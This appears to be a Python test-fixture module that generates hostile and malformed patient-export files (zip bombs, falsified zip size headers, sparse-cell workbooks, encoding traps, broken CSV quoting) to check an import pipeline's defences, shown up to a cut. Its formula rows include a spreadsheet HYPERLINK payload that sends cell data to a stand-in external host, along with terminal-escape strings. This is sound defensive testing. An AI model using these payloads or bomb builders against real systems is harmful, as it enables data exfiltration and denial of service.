"""A corpus of hostile and broken patient exports, each with the outcome the pipeline must give it.

`write_corpus(directory)` writes every file (72, all small: the limits are lowered by
`LIMITS_ENV` so that "over the limit" stays cheap) and returns them with their expectations.
`run_import` takes one file through the package's five stages in-process, without Airflow.
Both are shared by `tests/patient_import/test_hostile_inputs.py` and `scripts/reliability.py`.
`write_export` and `Reader` (the reader alone, under a test's limits) serve the reader's tests.

Every patient value in the corpus is one of `MARKERS`: distinctive made-up strings that must never
show up in a report message, a log line or the Data Docs.
"""

from __future__ import annotations

import codecs
import dataclasses
import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING

from include.patient_import import problems as p
from include.patient_import.settings import Limits
from tools.harness.registry import practice, registry_yaml

if TYPE_CHECKING:
    from include.patient_import.reader import ParsedExport

# The limits the corpus is made for (README, Settings): tiny, so that files over them stay small.
LIMITS_ENV: dict[str, str] = {
    "PATIENT_IMPORT_MAX_FILE_MB": "1",
    "PATIENT_IMPORT_MAX_ROWS": "1000",
    "PATIENT_IMPORT_MAX_COLUMNS": "200",
    "PATIENT_IMPORT_MAX_FIELD_LENGTH": "1000",
    "PATIENT_IMPORT_MAX_UNCOMPRESSED_MB": "5",
}

PRACTICE_ID = "demo_clinic"
CORPUS_PRACTICE = practice(PRACTICE_ID, "Corpus Clinic",
                           systems=["drip_education", "auto_debit", "cash_plan_calculator"])
PRACTICES_YAML = registry_yaml(CORPUS_PRACTICE)

HEADER = ["Account #", "Last Name", "First Name", "Address", "City", "State", "Zip", "Home Phone",
          "Email", "Birth Date"]
# Patient values that must never leave the patient files (reports, logs, Data Docs).
LAST, FIRST, STREET = "Marzipanova", "Xylophia", "88 Quillwort Lane"
EMAIL, PHONE, BIRTH = "xylophia.quill@example.com", "(217) 555-0147", "03/14/1987"
MARKERS: tuple[str, ...] = (LAST, FIRST, "Quillwort", EMAIL, "555-0147", BIRTH)

# Account numbers of the patients the store holds before any corpus file is imported: a hostile
# file that got through would change them.
BASELINE_ACCOUNTS = tuple(str(90001 + i) for i in range(10))
# Accepted corpus files insert patients of their own, so they never touch the baseline.
ACCEPTED_FIRST_ACCOUNT = 91001

ACCEPTED = frozenset({p.Status.COMPLETED.value, p.Status.COMPLETED_WITH_ERRORS.value})
REJECTED = frozenset({p.Status.REJECTED.value})


@dataclass(frozen=True)
class Hostile:
    """One corpus file and what the pipeline must do with it.

    `codes` are the file-level codes the import may be rejected with; empty means the file must be
    imported (a documented choice, see docs/security.md). `row` is the row the rejection names.
    """

    name: str
    what: str
    build: Callable[[Path], None] = field(repr=False)
    codes: frozenset[str] = frozenset()
    row: int | None = None

    @property
    def statuses(self) -> frozenset[str]:
        return REJECTED if self.codes else ACCEPTED

    @property
    def accepted(self) -> bool:
        return not self.codes


# ---------------------------------------------------------------- rows


def patient(account: int | str, **values: str) -> list[str]:
    row = dict(zip(HEADER, [str(account), LAST, FIRST, STREET, "Springfield", "IL", "62704", PHONE,
                            EMAIL, BIRTH]))
    row.update({_header(k): v for k, v in values.items()})
    return list(row.values())


def _header(key: str) -> str:
    return {"account": "Account #", "last": "Last Name", "first": "First Name", "address": "Address",
            "city": "City", "state": "State", "zip": "Zip", "phone": "Home Phone", "email": "Email",
            "birth": "Birth Date"}.get(key, key)


def csv_text(rows: list[list[str]], *, header: list[str] | None = HEADER, delimiter: str = ",",
             newline: str = "\r\n") -> str:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def baseline_rows() -> list[list[str]]:
    return [patient(a, last="Baseline", first=f"Patient{i}") for i, a in enumerate(BASELINE_ACCOUNTS)]


def hostile_rows(n: int = 5) -> list[list[str]]:
    """Rows on the baseline's account numbers, with other data: importing them would change patients."""
    return [patient(a) for a in BASELINE_ACCOUNTS[:n]]


def accepted_rows(n: int = 5, first: int = ACCEPTED_FIRST_ACCOUNT) -> list[list[str]]:
    """Clean rows of `n` different people: the first name carries a letter suffix after the marker
    (still found by a marker scan), so that they are not one person under several account numbers
    (`possible_duplicate_patient`, SPEC §8)."""
    return [patient(first + i, first=FIRST + _letters(i)) for i in range(n)]


def _letters(i: int) -> str:
    """0 → "a", 25 → "z", 26 → "aa": a lower-case suffix that keeps a name a plausible name (the
    encoding check judges names by how they look: SPEC §2)."""
    text = ""
    i += 1
    while i:
        i, rest = divmod(i - 1, 26)
        text = chr(97 + rest) + text
    return text


# ---------------------------------------------------------------- builders


def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data() if callable(data) else data)
    return build


def _text(text: str | Callable[[], str]) -> Callable[[Path], None]:
    return _bytes(lambda: (text() if callable(text) else text).encode("utf-8"))


def _good_csv(rows: list[list[str]] | None = None) -> bytes:
    return csv_text(rows or hostile_rows()).encode()


def workbook_bytes(rows: list[list[object]], far_cells: dict[str, object] | None = None) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref, value in (far_cells or {}).items():
        sheet[ref] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _good_workbook() -> bytes:
    return workbook_bytes([HEADER, *hostile_rows()])


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _replace_sheet(workbook: bytes, sheet_xml: Callable[[bytes], bytes] | None = None,
                   stream: Callable[[bytes], list[bytes]] | None = None) -> bytes:
    """The workbook with its first sheet's XML rewritten (whole, or streamed in parts)."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                if stream is not None:
                    with archive.open(info.filename, "w") as member:
                        for part in stream(data):
                            member.write(part)
                    continue
                data = sheet_xml(data)
            archive.writestr(info.filename, data)
    return out.getvalue()


def _zip_bomb_workbook() -> bytes:
    """A real workbook whose sheet inflates to 8 MB of whitespace (limit 5 MB) from ~10 KB."""
    def parts(xml: bytes) -> list[bytes]:
        head, tail = xml.split(b"</sheetData>")
        return [head, *([b" " * (1024 * 1024)] * 8), b"</sheetData>", tail]
    return _replace_sheet(_good_workbook(), stream=parts)


def _ratio_bomb_workbook() -> bytes:
    """Under the size limit (3 MB inflated) but one part inflates 1000 times its size."""
    def parts(xml: bytes) -> list[bytes]:
        head, tail = xml.split(b"</sheetData>")
        return [head, *([b" " * (1024 * 1024)] * 3), b"</sheetData>", tail]
    return _replace_sheet(_good_workbook(), stream=parts)


def _lying_sizes_workbook() -> bytes:
    """A sheet of 4 MB whose zip entry claims 4 KB: the sizes the bomb check reads are lies."""
    def parts(xml: bytes) -> list[bytes]:
        head, tail = xml.split(b"</sheetData>")
        return [head, *([b" " * (1024 * 1024)] * 4), b"</sheetData>", tail]
    return with_lying_size(_replace_sheet(_good_workbook(), stream=parts), "xl/worksheets/sheet1.xml", 4000)


def with_lying_size(archive: bytes, member: str, claimed: int) -> bytes:
    """`archive` (a zip) with `member`'s uncompressed size given as `claimed` bytes, in its local
    header and its central directory entry; the data left as it is."""
    raw = bytearray(archive)
    target = member.encode()
    info = zipfile.ZipFile(io.BytesIO(archive)).getinfo(member)
    struct.pack_into("<I", raw, info.header_offset + 22, claimed)  # local header: uncompressed size
    at = raw.find(b"PK\x01\x02")
    while at != -1:  # central directory entries
        length = struct.unpack_from("<H", raw, at + 28)[0]
        if bytes(raw[at + 46:at + 46 + length]) == target:
            struct.pack_into("<I", raw, at + 24, claimed)
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


def _spaced_far_cell(xml: bytes) -> bytes:
    # XML allows spaces around "="; no writer puts them there, an attacker may.
    return xml.replace(b"</sheetData>", b'<row r = "1048576"><c r = "GR1048576"><v>1</v></c></row></sheetData>')


def _encrypted_xlsx() -> bytes:
    # Excel wraps a password-protected .xlsx in an OLE2 compound file.
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptedPackage" + bytes(512)


def _noise(size: int, *, nul: bool, seed: int) -> bytes:
    rng = random.Random(seed)
    data = bytes(rng.randrange(0 if nul else 1, 256) for _ in range(size))
    return b"\x00" + data[1:] if nul else data


def _rows_csv(n: int, *, start: int = 100000) -> str:
    return csv_text([patient(start + i) for i in range(n)])


def _long_rows_csv(target_bytes: int) -> str:
    rows, size = [], 0
    i = 0
    while size <= target_bytes:
        row = patient(200000 + i, address=STREET + " " + "x" * 900)
        rows.append(row)
        size += sum(map(len, row)) + len(row)
        i += 1
    return csv_text(rows)


def _quote_never_closed(row: int) -> str:
    rows = hostile_rows(8)
    lines = csv_text(rows).splitlines(keepends=True)
    broken = lines[row - 1].replace(LAST, f'"{LAST}', 1)
    return "".join([*lines[:row - 1], broken, *lines[row:]])


def _many_columns(n: int) -> str:
    header = HEADER + [f"Extra {i}" for i in range(n - len(HEADER))]
    return csv_text([patient(90001) + [""] * (n - len(HEADER))], header=header)


def _formula_rows() -> list[list[str]]:
    starts = ["=", "+", "-", "@", "\t", "\r"]
    payloads = ['=HYPERLINK("http://example.invalid/?x="&A2,"click")', "+1+1", "-2+3", "@SUM(1+1)",
                "\t=1+1", "\r=1+1"]
    rows = []
    for i, (start, payload) in enumerate(zip(starts, payloads)):
        rows.append(patient(ACCEPTED_FIRST_ACCOUNT + 100 + i, last=payload, first=start + "cmd",
                            address=payload, city=payload, email=start + EMAIL, phone=start + PHONE))
    return rows


HTML = (f"<!DOCTYPE html><html><body><table><tr><th>Account #</th><th>Last Name</th></tr>"
        f"<tr><td>90001</td><td>{LAST}</td></tr></table></body></html>")
JSON_ONE_LINE = '[{"Account #": "90001", "Last Name": "%s", "First Name": "%s"}]' % (LAST, FIRST)
JSON_PRETTY = '[\n  {\n    "Account #": "90001",\n    "Last Name": "%s",\n    "First Name": "%s"\n  }\n]\n' % (LAST, FIRST)
XML = ('<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
       f"<Worksheet><Table><Row><Cell><Data>{LAST}</Data></Cell></Row></Table></Worksheet></Workbook>")
RTF = r"{\rtf1\ansi{\fonttbl\f0\fswiss Helvetica;}\f0 Account #\tab " + LAST + r"\par}"


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


@cache
def corpus() -> tuple[Hostile, ...]:
    """Every corpus file, with the outcome the pipeline must give it (built once per process)."""
    U, R = p.UNSUPPORTED_FILE_TYPE, p.UNREADABLE_FILE
    codes = _codes
    good = csv_text(hostile_rows())
    return (
        # --- not a text export at all
        Hostile("binary_noise.csv", "4 KB of random bytes, NUL bytes among them", _bytes(_noise(4096, nul=True, seed=1)), codes(U)),
        Hostile("binary_noise_without_nul.csv", "4 KB of random bytes without NUL", _bytes(_noise(4096, nul=False, seed=2)), codes(U, R)),
        Hostile("nul_bytes.csv", "a good CSV with NUL bytes in a row", _text(good.replace(LAST, LAST + "\x00\x00", 1)), codes(U)),
        Hostile("nul_byte_after_64kb.csv", "a NUL byte far beyond the first 64 KB", _text(lambda: _rows_csv(700) + "90001,\x00,x\r\n"), codes(U)),
        Hostile("document.pdf", "a PDF", _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"), codes(U)),
        Hostile("pdf_named.csv", "a PDF named .csv", _bytes(b"%PDF-1.4\n" + bytes(range(256))), codes(U)),
        Hostile("legacy.xls", "a legacy Excel 97-2003 workbook (OLE2)", _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024)), codes(U)),
        Hostile("encrypted.xlsx", "a password-protected .xlsx (an OLE2 container)", _bytes(_encrypted_xlsx()), codes(U)),
        Hostile("image.png", "a PNG screenshot of the list", _bytes(b"\x89PNG\r\n\x1a\n" + bytes(64)), codes(U)),
        Hostile("photo.csv", "a JPEG named .csv", _bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64)), codes(U)),
        Hostile("image.gif", "a GIF", _bytes(b"GIF89a" + bytes(64)), codes(U)),
        Hostile("image.bmp", "a BMP", _bytes(b"BM" + struct.pack("<I", 70) + bytes(4) + bytes(62)), codes(U)),
        Hostile("image.webp", "a WEBP", _bytes(b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32)), codes(U)),
        Hostile("scan.tiff", "a TIFF", _bytes(b"II*\x00" + bytes(64)), codes(U)),
        Hostile("export.csv.gz", "a gzip of a CSV", _bytes(lambda: __import__("gzip").compress(good.encode())), codes(U)),
        Hostile("exports.zip", "a zip of CSVs", _bytes(lambda: _zip({"a.csv": good.encode(), "b.csv": good.encode()})), codes(U)),
        Hostile("exports_zip_named.xlsx", "a zip of CSVs named .xlsx: an .xlsx that is not a workbook", _bytes(lambda: _zip({"a.csv": good.encode()})), codes(U)),
        Hostile("letter.docx.csv", "a Word document named .csv", _bytes(lambda: _zip({"word/document.xml": b"<w:document/>"})), codes(U)),
        Hostile("sheet.ods", "an OpenDocument spreadsheet", _bytes(lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})), codes(U)),
        Hostile("page.csv", "a web page saved as .csv", _text(HTML), codes(U)),
        Hostile("page_with_bom.html", "a web page with a BOM and leading blank lines", _bytes(codecs.BOM_UTF8 + b"\r\n  \n" + HTML.encode()), codes(U)),
        Hostile("spreadsheet2003.xml", "an Excel 2003 XML spreadsheet", _text(XML), codes(U)),
        Hostile("document.rtf", "a Rich Text document", _text(RTF), codes(U)),
        Hostile("export.json", "a JSON array of patients on one line", _text(JSON_ONE_LINE), codes(p.NO_DATA_ROWS, p.MISSING_REQUIRED_COLUMNS)),
        Hostile("pretty_json.csv", "a pretty-printed JSON array named .csv", _text(JSON_PRETTY), codes(R, p.MISSING_REQUIRED_COLUMNS)),
        # --- broken workbooks
        Hostile("truncated.xlsx", "a workbook cut in half", _bytes(lambda: _good_workbook()[: len(_good_workbook()) // 2]), codes(R)),
        Hostile("broken_sheet.xlsx", "a workbook whose sheet is not XML", _bytes(lambda: _replace_sheet(_good_workbook(), lambda _: b"not xml at all <<<")), codes(R)),
        Hostile("zip_bomb.xlsx", "a workbook whose sheet inflates beyond the limit", _bytes(_zip_bomb_workbook), codes(p.FILE_TOO_LARGE)),
        Hostile("ratio_bomb.xlsx", "a workbook part inflating 1000 times its size", _bytes(_ratio_bomb_workbook), codes(p.FILE_TOO_LARGE)),
        Hostile("lying_sizes.xlsx", "a zip entry that lies about its inflated size", _bytes(_lying_sizes_workbook), codes(R, p.FILE_TOO_LARGE)),
        Hostile("sparse_bomb.xlsx", "5 KB workbook with one cell at XFD1048576 (a 17-billion-cell grid)", _bytes(lambda: workbook_bytes([HEADER, *hostile_rows()], {"XFD1048576": 1})), codes(p.TOO_MANY_COLUMNS)),
        Hostile("sparse_rows.xlsx", "a workbook with one stray cell at row 1,000,000", _bytes(lambda: workbook_bytes([HEADER, *hostile_rows()], {"D1000000": 1})), codes(p.FILE_TOO_LARGE)),
        Hostile("sparse_spaced.xlsx", "a far cell written with spaces around '='", _bytes(lambda: _replace_sheet(_good_workbook(), _spaced_far_cell)), codes(p.FILE_TOO_LARGE, p.TOO_MANY_COLUMNS, R)),
        Hostile("empty_workbook.xlsx", "a workbook with an empty first sheet", _bytes(lambda: workbook_bytes([])), codes(p.EMPTY_FILE)),
        Hostile("header_only.xlsx", "a workbook with a header and no rows", _bytes(lambda: workbook_bytes([HEADER])), codes(p.NO_DATA_ROWS)),
        Hostile("too_many_rows.xlsx", "a workbook with 1,200 rows (limit 1,000)", _bytes(lambda: workbook_bytes([HEADER, *[patient(100000 + i) for i in range(1200)]])), codes(p.TOO_MANY_ROWS)),
        # --- encodings
        Hostile("not_utf8_nor_1252.csv", "bytes no encoding Excel writes reads as letters (0x81 0xB3: DOS ü│, Mac Å≥)", _bytes(lambda: _good_csv().replace(LAST.encode(), b"Marz\x81\xb3panova", 1)), codes(R), row=2),
        Hostile("dos_bytes.csv", "bytes undefined in UTF-8 and Windows-1252 that DOS 437 reads as letters (0x81 0x8D: üì)", _bytes(lambda: csv_text(accepted_rows(3, 91071)).encode().replace(LAST.encode(), b"Marz\x81\x8dpanova", 1)), codes()),
        Hostile("mixed_encodings.csv", "UTF-8 and Windows-1252 accents in one file: Windows-1252, the UTF-8 text repaired", _bytes(lambda: csv_text(accepted_rows(3, 91081)).encode().replace(LAST.encode(), "Renée".encode("utf-8"), 1).replace(FIRST.encode(), "Zoë".encode("cp1252"), 1)), codes()),
        Hostile("bom_then_1252.csv", "a UTF-8 BOM, then Windows-1252 bytes", _bytes(lambda: codecs.BOM_UTF8 + _good_csv().replace(LAST.encode(), "Müller".encode("cp1252"), 1)), codes(R)),
        Hostile("utf16_without_bom.csv", "UTF-16 text without a byte-order mark", _bytes(lambda: good.encode("utf-16-le")), codes(U)),
        Hostile("utf16_broken.txt", "a UTF-16 BOM, then an unpaired surrogate", _bytes(lambda: codecs.BOM_UTF16_LE + "Account #\tLast Name\r\n1\t".encode("utf-16-le") + b"\x00\xd8A\x00"), codes(R)),
        Hostile("surrogate_bytes.csv", "UTF-8-encoded surrogates (ED A0 80): valid Windows-1252, read as such", _bytes(lambda: csv_text(accepted_rows(3, 91051)).encode().replace(LAST.encode(), b"Marz\xed\xa0\x80", 1)), codes()),
        # --- quoting and shape
        Hostile("quote_never_closed.csv", "a quote opened on row 5 and never closed", _text(lambda: _quote_never_closed(5)), codes(R), row=5),
        Hostile("text_after_quote.csv", "text after a closing quote on row 3", _text(lambda: good.replace(f"90002,{LAST}", f'90002,"{LAST}"x', 1)), codes(R), row=3),
        Hostile("ragged_row.csv", "row 4 has two more values than the header", _text(lambda: good.replace(f"90003,{LAST}", f"90003,{LAST},extra,{FIRST}", 1)), codes(R), row=4),
        Hostile("short_rows.csv", "rows with fewer values than the header: read unambiguously", _text(lambda: csv_text([r[:5] for r in accepted_rows(4, 91061)])), codes()),
        Hostile("wrong_delimiter_rows.csv", "comma header, semicolon rows", _text(lambda: ",".join(HEADER) + "\r\n" + csv_text(hostile_rows(), header=None, delimiter=";")), codes(p.TOO_MANY_REJECTED_ROWS)),
        Hostile("duplicate_columns.csv", "'Account #' and 'Acct #' both present", _text(lambda: csv_text([r + ["1"] for r in hostile_rows()], header=HEADER + ["Acct #"])), codes(p.DUPLICATE_COLUMNS)),
        Hostile("same_header_twice.csv", "'Last Name' twice", _text(lambda: csv_text([r + [LAST] for r in hostile_rows()], header=HEADER + ["Last Name"])), codes(p.DUPLICATE_COLUMNS)),
        Hostile("no_account_column.csv", "no account-number column", _text(lambda: csv_text([r[1:] for r in hostile_rows()], header=HEADER[1:])), codes(p.MISSING_REQUIRED_COLUMNS)),
        Hostile("headerless.csv", "patients from line 1, no header", _text(lambda: csv_text(hostile_rows(), header=None)), codes(p.MISSING_REQUIRED_COLUMNS)),
        Hostile("scientific_accounts.csv", "every account number in scientific notation", _text(lambda: csv_text([patient(f"9.0001E+{4 + i % 3}") for i in range(5)])), codes(p.TOO_MANY_REJECTED_ROWS)),
        # --- empty
        Hostile("empty.csv", "0 bytes", _bytes(b""), codes(p.EMPTY_FILE)),
        Hostile("whitespace_only.csv", "spaces, tabs and line breaks", _text(" \t \r\n\r\n   \n\t\n"), codes(p.EMPTY_FILE)),
        Hostile("bom_only.csv", "a UTF-8 byte-order mark and nothing else", _bytes(codecs.BOM_UTF8), codes(p.EMPTY_FILE)),
        Hostile("commas_only.csv", "Excel's empty rows: only delimiters", _text(",,,,\r\n,,,,\r\n"), codes(p.EMPTY_FILE)),
        Hostile("header_only.csv", "a header and no rows", _text(",".join(HEADER) + "\r\n"), codes(p.NO_DATA_ROWS)),
        Hostile("header_then_blank_lines.csv", "a header and blank lines", _text(",".join(HEADER) + "\r\n\r\n,,,\r\n\r\n"), codes(p.NO_DATA_ROWS)),
        # --- over the limits
        Hostile("too_large.csv", "1.1 MB (limit 1 MB)", _text(lambda: _long_rows_csv(1_150_000)), codes(p.FILE_TOO_LARGE)),
        Hostile("too_many_rows.csv", "1,500 rows (limit 1,000)", _text(lambda: _rows_csv(1500)), codes(p.TOO_MANY_ROWS), row=1002),
        Hostile("ten_thousand_columns.csv", "10,000 columns (limit 200)", _text(lambda: _many_columns(10_000)), codes(p.TOO_MANY_COLUMNS), row=1),
        Hostile("field_1001_chars.csv", "a 1,001-character address on row 3 (limit 1,000)", _text(lambda: good.replace(f"90002,{LAST},{FIRST},{STREET}", f"90002,{LAST},{FIRST},{STREET:x<1001}", 1)), codes(p.FIELD_TOO_LONG), row=3),
        Hostile("long_header.csv", "a 5,000-character header", _text(lambda: csv_text(hostile_rows(), header=HEADER[:-1] + ["B" * 5000])), codes(p.FIELD_TOO_LONG), row=1),
        Hostile("long_line_without_newline.csv", "a 600 KB last line and no line break", _text(lambda: good + ",".join(patient(90009, address="y" * 600_000))), codes(p.FIELD_TOO_LONG)),
        Hostile("quote_swallows_file.csv", "an unclosed quote swallowing 60 lines (over the field limit)", _text(lambda: _quote_never_closed(3).rstrip() + "\r\n" + _rows_csv(60, start=300000)), codes(R), row=3),
        Hostile("quote_swallows_150kb.csv", "an unclosed quote swallowing 1,500 lines (over csv's 128 KB field limit)", _text(lambda: _quote_never_closed(3).rstrip() + "\r\n" + _rows_csv(1500, start=300000)), codes(R), row=3),
        # --- accepted, with a documented choice
        Hostile("csv_named.xlsx", "a CSV named .xlsx: read by content, as CSV", _text(lambda: csv_text(accepted_rows(3, 91001))), codes()),
        Hostile("excel_sep_line.csv", "Excel's 'sep=;' first line", _text(lambda: "sep=;\r\n" + csv_text(accepted_rows(3, 91011), delimiter=";")), codes()),
        Hostile("cr_only.csv", "old Mac line endings (CR only)", _text(lambda: csv_text(accepted_rows(3, 91021), newline="\r")), codes()),
        Hostile("formula_values.csv", "values starting with = + - @ tab CR in every column", _text(lambda: csv_text(_formula_rows())), codes()),
        Hostile("control_characters.csv", "terminal escapes, bidi overrides and zero-width spaces in names", _text(lambda: csv_text([patient(91031 + i, last=f"\x1b[31m{LAST}\u202e\u200b", first=f"{FIRST}\x07") for i in range(3)])), codes()),
        Hostile("utf16_with_bom.txt", "Excel's 'Unicode text': UTF-16 with BOM, tab-separated", _bytes(lambda: codecs.BOM_UTF16_LE + csv_text(accepted_rows(3, 91041), delimiter="\t").encode("utf-16-le")), codes()),
    )


def write_corpus(directory: Path) -> list[tuple[Hostile, Path]]:
    """Write every corpus file into `directory`; returns (expectation, path) pairs."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for item in corpus():
        path = directory / item.name
        item.build(path)
        written.append((item, path))
    return written


# ---------------------------------------------------------------- the reader alone


def write_export(directory: Path, content: str | bytes, name: str = "export.csv", encoding: str = "utf-8") -> Path:
    """`content` written as `directory/name` (text in `encoding`)."""
    path = directory / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return path


@dataclass(frozen=True)
class Reader:
    """`read_export` under fixed limits, any of them changed for one call: `read(path, max_rows=5)`."""

    limits: Limits

    def __call__(self, path: Path, **changes: int) -> ParsedExport:
        from include.patient_import.reader import read_export

        return read_export(path, dataclasses.replace(self.limits, **changes))

    def rejection(self, path: Path, **changes: int) -> p.ExportRejected:
        """What reading `path` raised; AssertionError when it read the file."""
        try:
            self(path, **changes)
        except p.ExportRejected as exc:
            return exc
        raise AssertionError(f"{path.name} was read, not rejected")


# ---------------------------------------------------------------- the pipeline in-process


@dataclass(frozen=True)
class Imported:
    """What one in-process import left behind: its report document and summary."""

    report: dict
    summary: dict
    seconds: float

    @property
    def file_codes(self) -> set[str]:
        return {x["code"] for x in self.report["problems"] if x["row"] is None and x["severity"] == "error"}


def prepare_home(home: Path, monkeypatch, *, limits: bool = True, settle_seconds: int = 0,
                 practices_yaml: str = PRACTICES_YAML, url: str | None = None):
    """Point the package at a fresh home (registry, corpus limits) and return its prepared store
    (the home's SQLite store, or the one at `url`)."""
    from include.patient_import.records import open_store

    home.mkdir(parents=True, exist_ok=True)
    registry = home / "practices.yml"
    registry.write_text(practices_yaml, encoding="utf-8")
    monkeypatch.setenv("PATIENT_IMPORT_HOME", str(home))
    monkeypatch.delenv("PATIENT_IMPORT_STORAGE", raising=False)
    monkeypatch.setenv("PATIENT_IMPORT_PRACTICES", str(registry))
    monkeypatch.setenv("PATIENT_IMPORT_SETTLE_SECONDS", str(settle_seconds))
    for name, value in LIMITS_ENV.items():
        if limits:
            monkeypatch.setenv(name, value)
        else:
            monkeypatch.delenv(name, raising=False)
    return open_store(url, prepare=True)


def run_import(engine, path: Path, *, run_id: str, exported_on: date | None = None,
               practice_id: str = PRACTICE_ID, dry_run: bool = False) -> list[Imported]:
    """Import `path` in-process through `pipeline.run_import` (the stages the DAG's tasks run, the
    report whatever failed before it); each import's report, summary and seconds since the start."""
    import json
    import time
    from contextlib import contextmanager

    from include.patient_import import pipeline, storage

    start = time.perf_counter()
    finished: list[float] = []

    @contextmanager
    def timed(stage: str):
        yield
        if stage == "report":
            finished.append(time.perf_counter() - start)

    run = pipeline.RunInfo(dag_id="corpus", run_id=run_id, map_index=0)
    done = pipeline.run_import(engine, practice_id, run, export_file=str(path),
                               exported_on=exported_on or date.today(), dry_run=dry_run, each_stage=timed)
    return [Imported(json.loads(storage.path_of(stages["report"]["report"]).read_text(encoding="utf-8")),
                     stages["report"], seconds) for stages, seconds in zip(done, finished)]


def patients_snapshot(engine, practice_id: str = PRACTICE_ID) -> dict[str, dict]:
    """Every stored patient of the practice, by account number, without the bookkeeping columns."""
    import sqlalchemy as sa

    from include.patient_import.store import Patient

    table = Patient.__table__
    with engine.connect() as conn:
        rows = conn.execute(sa.select(table).where(table.c.practice_id == practice_id)).mappings().all()
    return {r["third_party_acct_number"]: dict(r) for r in rows}


# ---------------------------------------------------------------- the figures `make reliability` prints

# Where the tests leave the corpus figures for `make reliability` (`make test` runs the corpus once,
# in tests/patient_import/test_hostile_inputs.py, and reliability reads them instead of importing
# every file again).
CORPUS_FIGURES_FILE = "corpus.json"
_ROOT = Path(__file__).resolve().parents[1]


def reliability_dir() -> Path:
    """Where tests leave figures for `make reliability`: `$PATIENT_IMPORT_HOME/reliability`
    (`var/reliability` by default). Call it before a test points the package at another home."""
    import os

    return Path(os.environ.get("PATIENT_IMPORT_HOME") or _ROOT / "var") / "reliability"


def why_unclean(item: Hostile, imported: Imported, before: dict, after: dict, source_sha256: str) -> str | None:
    """Why the import of a corpus file was not clean (the reliability figures' definition), or None.

    Clean: the expected status and codes, counts adding up, the original archived unchanged (and,
    when rejected, quarantined; a file over the size limit neither, its checksum recorded), no
    patient changed by a rejected file and no upload file left of it.
    """
    import hashlib

    report = imported.report
    counts = report["counts"]
    files = report["files"]
    if report["status"] not in item.statuses:
        return f"status {report['status']}"
    if counts["read"] != sum(counts[k] for k in ("inserted", "updated", "unchanged", "skipped", "rejected")):
        return "counts do not add up"
    archived = files.get("archive")
    # A file over the size limit is refused at extract (SPEC §7): never archived or quarantined,
    # its checksum recorded. (A workbook that inflates too far is `file_too_large` later, archived.)
    unkept = imported.file_codes == {"file_too_large"} and not archived
    if unkept:
        if files.get("quarantine") or report["export"]["sha256"] != source_sha256:
            return "a file over the size limit was kept, or its checksum not recorded"
    elif not archived or hashlib.sha256(Path(archived).read_bytes()).hexdigest() != source_sha256:
        return "original not archived unchanged"
    if item.accepted:
        return None if imported.file_codes == set() else f"file errors {sorted(imported.file_codes)}"
    if not (imported.file_codes and imported.file_codes <= item.codes):
        return f"codes {sorted(imported.file_codes)}"
    if counts["rejected"] != counts["read"]:
        return "a rejected import with rows not rejected"
    if after != before:
        return "patients changed"
    if not unkept and (not files.get("quarantine") or not Path(files["quarantine"]).is_file()):
        return "not quarantined"
    if files.get("upload"):
        return "an upload file was left"
    return None


@dataclass
class CorpusFigures:
    """The corpus's reliability figures: how many files were tried, rejected or read cleanly, the
    unclean ones with why, and the markers found in reports, logs and Data Docs."""

    corpus: list[str] = field(default_factory=lambda: [item.name for item in corpus()])
    tried: int = 0
    rejected_expected: int = 0
    rejected_cleanly: int = 0
    accepted_expected: int = 0
    accepted_cleanly: int = 0
    markers_found: int = 0
    unclean: list[str] = field(default_factory=list)

    def add(self, item: Hostile, why: str | None) -> None:
        self.tried += 1
        if item.accepted:
            self.accepted_expected += 1
            self.accepted_cleanly += why is None
        else:
            self.rejected_expected += 1
            self.rejected_cleanly += why is None
        if why:
            self.unclean.append(f"{item.name} ({why})")

    def count_markers(self, texts: list[str]) -> None:
        self.markers_found += sum(text.count(marker) for text in texts for marker in MARKERS)

    def save(self, directory: Path) -> Path:
        import json
        from dataclasses import asdict

        directory.mkdir(parents=True, exist_ok=True)
        path = directory / CORPUS_FIGURES_FILE
        path.write_text(json.dumps(asdict(self), indent=1), encoding="utf-8")
        return path

    @classmethod
    def recorded(cls, directory: Path) -> CorpusFigures | None:
        """The figures the tests recorded in `directory`, when they cover today's whole corpus."""
        import json

        path = directory / CORPUS_FIGURES_FILE
        if not path.is_file():
            return None
        found = cls(**json.loads(path.read_text(encoding="utf-8")))
        return found if found.corpus == cls().corpus and found.tried == len(found.corpus) else None


def data_docs_and_report_texts(report: dict) -> list[str]:
    """The text of an import's report and Data Docs pages, where no marker may appear."""
    import json

    texts = [json.dumps(report, ensure_ascii=False)]
    docs = report["files"].get("data_docs")
    if docs:
